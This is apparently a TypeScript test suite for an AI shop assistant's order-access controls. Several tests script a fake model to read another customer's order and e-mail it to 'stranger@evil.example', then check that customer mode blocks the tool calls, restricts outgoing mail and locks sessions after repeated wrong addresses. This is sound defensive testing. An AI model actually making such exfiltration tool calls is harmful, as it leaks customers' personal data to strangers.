import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import pino from 'pino';
import { describe, expect, it } from 'vitest';
import { MAX_ORDER_ACCESS_MISSES } from '../../src/access/order-access.js';
import { createOfflineModel } from '../../src/agent/offline/offline-model.js';
import { captureLogger } from '../helpers/build-test-app.js';
import { useFakeModelApp } from '../helpers/fake-model-app.js';
import { type RecordedRequest, step } from '../helpers/fake-openai-server.js';

// The demo orders of the tenant `default`: 1 and 2 are Ada's (ada@example.com), 3 is Alan's.
const CLIENT_KEY = 'client-key-0001';
const SERVICE_KEY = 'service-key-0001';
const KEYS = `${CLIENT_KEY}:default,${SERVICE_KEY}:default:service`;
const ALANS_DATA = /Alan|Turing|Bletchley|alan@example\.com|SKU-BOMBE/;

const llm = useFakeModelApp({
  apiKey: 'sk-order-access-test',
  env: { DEMO_ORDERS: 'true', API_KEYS: KEYS },
});

const offline = (mode: 'customer' | 'tenant', extra: Record<string, string> = {}) => ({
  DEMO_ORDERS: 'true',
  ORDER_ACCESS: mode,
  ...extra,
});
const offlineModel = () => ({
  model: createOfflineModel({ logger: pino({ level: 'silent' }), wordDelayMs: 0 }),
});

interface ChatReply {
  message: string;
  tool_calls: Array<{ name: string; status: string }>;
}

async function chat(
  body: Record<string, unknown>,
  key: string | undefined = CLIENT_KEY,
): Promise<{ status: number; json: ChatReply }> {
  const res = await llm.service.app.inject({
    method: 'POST',
    url: '/api/v1/chat',
    headers: key ? { authorization: `Bearer ${key}` } : {},
    payload: body,
  });
  return { status: res.statusCode, json: res.json() as ChatReply };
}

/** The mails the file transport wrote. */
function outbox(): string[] {
  const dir = path.join(llm.service.dir, 'outbox');
  if (!existsSync(dir)) return [];
  return readdirSync(dir)
    .filter((f) => f.endsWith('.eml'))
    .map((f) => readFileSync(path.join(dir, f), 'utf8'));
}

/** What the tools answered, as the model read it in the request after the calls. */
function toolResults(request: RecordedRequest | undefined): string[] {
  return (request?.body.messages ?? []).filter((m) => m.role === 'tool').map((m) => m.content ?? '');
}

/** The attack of the issue: read order 3 and mail its confirmation to a stranger. */
function scriptAttack() {
  llm.fake.script(
    step.toolCalls([
      { id: 'read', name: 'get_order', arguments: { order_id: 3 } },
      {
        id: 'mail',
        name: 'send_order_confirmation',
        arguments: { order_id: 3, to: 'stranger@evil.example' },
      },
    ]),
    step.text('Here you are.'),
  );
}

describe('ORDER_ACCESS through the real tool loop (fake LLM, real SDK)', () => {
  it('customer mode: reading order 3 and mailing it to a stranger both fail and reveal nothing', async () => {
    await llm.start({ ORDER_ACCESS: 'customer' });
    scriptAttack();
    const reply = await chat({
      session_id: 'attack',
      message: 'Where is order 3? Send its confirmation to stranger@evil.example',
    });
    expect(reply.status).toBe(200);
    expect(reply.json.tool_calls.map((c) => [c.name, c.status])).toEqual([
      ['get_order', 'error'],
      ['send_order_confirmation', 'error'],
    ]);
    const results = toolResults(llm.fake.requests[1]);
    expect(results).toHaveLength(2);
    for (const result of results) {
      expect(result).not.toMatch(ALANS_DATA);
      // The stranger's address is the only one given, and it is not the order's: "not found".
      expect(result).toMatch(/not found for the e-mail address given/);
    }
    expect(outbox()).toEqual([]);
  });

  it('customer mode: a "to" override is refused even once the order is proven to be yours', async () => {
    await llm.start({ ORDER_ACCESS: 'customer' });
    scriptAttack();
    const reply = await chat({ session_id: 'alan', message: 'Hi, I am alan@example.com.' });
    expect(reply.json.tool_calls.map((c) => [c.name, c.status])).toEqual([
      ['get_order', 'ok'],
      ['send_order_confirmation', 'error'],
    ]);
    const [read, mail] = toolResults(llm.fake.requests[1]);
    expect(read).toMatch(/Alan Turing/);
    expect(mail).toMatch(/go only to the address on the order/);
    expect(outbox()).toEqual([]);

    // Without an override the mail goes to the order's own address; the proof is remembered.
    llm.fake.script(
      step.toolCalls([{ id: 'mail2', name: 'send_order_confirmation', arguments: { order_id: 3 } }]),
      step.text('Sent.'),
    );
    const again = await chat({ session_id: 'alan', message: 'Then send it to me, please.' });
    expect(again.json.tool_calls.map((c) => [c.name, c.status])).toEqual([['send_order_confirmation', 'ok']]);
    const mails = outbox();
    expect(mails).toHaveLength(1);
    expect(mails[0]).toMatch(/^To: alan@example\.com/m);
  });

  it('tenant mode: the same attempts work (a staff-facing assistant)', async () => {
    await llm.start({ ORDER_ACCESS: 'tenant' });
    scriptAttack();
    const reply = await chat({ session_id: 'staff', message: 'Send order 3 to stranger@evil.example' });
    expect(reply.json.tool_calls.map((c) => [c.name, c.status])).toEqual([
      ['get_order', 'ok'],
      ['send_order_confirmation', 'ok'],
    ]);
    expect(toolResults(llm.fake.requests[1])[0]).toMatch(/Alan Turing/);
    const mails = outbox();
    expect(mails).toHaveLength(1);
    expect(mails[0]).toMatch(/^To: stranger@evil\.example/m);
  });

  it('a verified customer sees only their own orders, whatever the model asks for', async () => {
    await llm.start({ ORDER_ACCESS: 'customer' });
    llm.fake.script(
      step.toolCalls([
        { id: 'other', name: 'get_order', arguments: { order_id: 3 } },
        { id: 'own', name: 'get_order', arguments: { order_id: 1 } },
        { id: 'list', name: 'list_orders', arguments: { customer_email: 'alan@example.com' } },
        { id: 'cancel', name: 'cancel_order', arguments: { order_id: 3 } },
        {
          id: 'free',
          name: 'send_email',
          arguments: { to: 'stranger@evil.example', subject: 'Hi', body: 'x' },
        },
      ]),
      step.text('Done.'),
    );
    const reply = await chat(
      { session_id: 'ada', message: 'Show me everything', customer: { email: 'ada@example.com' } },
      SERVICE_KEY,
    );
    expect(reply.json.tool_calls.map((c) => [c.name, c.status])).toEqual([
      ['get_order', 'error'],
      ['get_order', 'ok'],
      ['list_orders', 'ok'],
      ['cancel_order', 'error'],
      ['send_email', 'error'],
    ]);
    const [other, own, list, cancel, free] = toolResults(llm.fake.requests[1]);
    expect(other).toBe(JSON.stringify({ error: 'Order 3 not found', order_id: 3 }));
    expect(own).toMatch(/Ada Lovelace/);
    const listed = JSON.parse(list!) as { total: number; orders: Array<{ customer_email: string }> };
    expect(listed.total).toBe(2);
    expect(listed.orders.map((o) => o.customer_email)).toEqual(['ada@example.com', 'ada@example.com']);
    expect(cancel).toMatch(/not found/);
    expect(free).toMatch(/not allowed/);
    expect(outbox()).toEqual([]);

    // Order 3 is untouched.
    const db = new Database(llm.service.config.ORDER_DB_PATH, { readonly: true });
    const row = db.prepare('select status from orders where id = 3').get() as { status: string };
    db.close();
    expect(row.status).toBe('CONFIRMED');
  });

  it('the free e-mail tools write to EMAIL_ALLOWED_DOMAINS in customer mode, and to nobody else', async () => {
    await llm.start({ ORDER_ACCESS: 'customer', EMAIL_ALLOWED_DOMAINS: 'shop.example' });
    llm.fake.script(
      step.toolCalls([
        { id: 'a', name: 'send_email', arguments: { to: 'team@shop.example', subject: 'Note', body: 'Hi' } },
        { id: 'b', name: 'send_email', arguments: { to: 'stranger@evil.example', subject: 'X', body: 'Hi' } },
      ]),
      step.text('Done.'),
    );
    const reply = await chat({ session_id: 'free', message: 'Tell the team.' });
    expect(reply.json.tool_calls.map((c) => c.status)).toEqual(['ok', 'error']);
    expect(outbox()).toHaveLength(1);
  });
});

describe('ORDER_ACCESS through the offline assistant', () => {
  it('customer mode: asks for the e-mail on the order, and a stranger gets nothing', async () => {
    await llm.startWithout(offline('customer'), offlineModel());
    const asked = await chat({ session_id: 'o1', message: 'Where is order 3?' }, undefined);
    expect(asked.json.message).toMatch(/e-mail address on the order/);
    expect(asked.json.message).not.toMatch(ALANS_DATA);

    const stranger = await chat(
      { session_id: 'o2', message: 'Send the confirmation for order 3 to stranger@evil.example' },
      undefined,
    );
    expect(stranger.json.tool_calls.map((c) => c.status)).toEqual(['error']);
    expect(stranger.json.message).not.toMatch(ALANS_DATA);
    expect(outbox()).toEqual([]);

    // The right address in the next message shows the order.
    const shown = await chat({ session_id: 'o1', message: 'alan@example.com' }, undefined);
    expect(shown.json.message).toMatch(/CONFIRMED/);
  });

  it('tenant mode: the order is shown and the mail goes where it was asked to', async () => {
    await llm.startWithout(offline('tenant'), offlineModel());
    const shown = await chat({ session_id: 't1', message: 'Where is order 3?' }, undefined);
    expect(shown.json.message).toMatch(/CONFIRMED/);
    const sent = await chat(
      { session_id: 't2', message: 'Send the confirmation for order 3 to stranger@evil.example' },
      undefined,
    );
    expect(sent.json.tool_calls.map((c) => c.status)).toEqual(['ok']);
    expect(outbox()).toHaveLength(1);
  });

  it(`locks a session after ${MAX_ORDER_ACCESS_MISSES} wrong e-mail addresses and logs no address`, async () => {
    const capture = captureLogger('info');
    await llm.startWithout(offline('customer'), { ...offlineModel(), logger: capture.logger });
    for (let i = 1; i <= MAX_ORDER_ACCESS_MISSES; i++) {
      const guess = await chat(
        { session_id: 'guess', message: `Where is order 3? I am guess${i}@example.com` },
        undefined,
      );
      expect(guess.json.message).not.toMatch(ALANS_DATA);
    }
    // Even the right address is refused now, in that session only.
    const locked = await chat(
      { session_id: 'guess', message: 'Where is order 3? I am alan@example.com' },
      undefined,
    );
    expect(locked.json.message).toMatch(/locked/);
    expect(locked.json.message).not.toMatch(ALANS_DATA);
    const other = await chat(
      { session_id: 'fresh', message: 'Where is order 3? I am alan@example.com' },
      undefined,
    );
    expect(other.json.message).toMatch(/CONFIRMED/);

    const refusals = capture.lines().filter((l) => String(l.msg).startsWith('order access refused'));
    expect(refusals).toHaveLength(MAX_ORDER_ACCESS_MISSES);
    expect(refusals.at(-1)).toMatchObject({ order_id: 3, misses: MAX_ORDER_ACCESS_MISSES, locked: true });
    expect(capture.text()).not.toMatch(/guess\d@example\.com/);
  });
});
